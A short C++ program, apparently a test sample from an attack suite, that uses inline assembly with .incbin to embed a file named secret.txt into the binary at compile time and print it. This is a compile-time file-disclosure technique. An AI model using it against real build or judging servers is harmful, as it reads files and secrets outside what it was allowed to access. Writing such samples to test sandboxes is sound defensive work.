#include <cstdio>
asm(".section .rodata\nsecret: .incbin \"/tmp/tidemark-attacks/secret.txt\"\n.byte 0\n.text");
extern const char secret[] asm("secret");
int main() { puts(secret); }
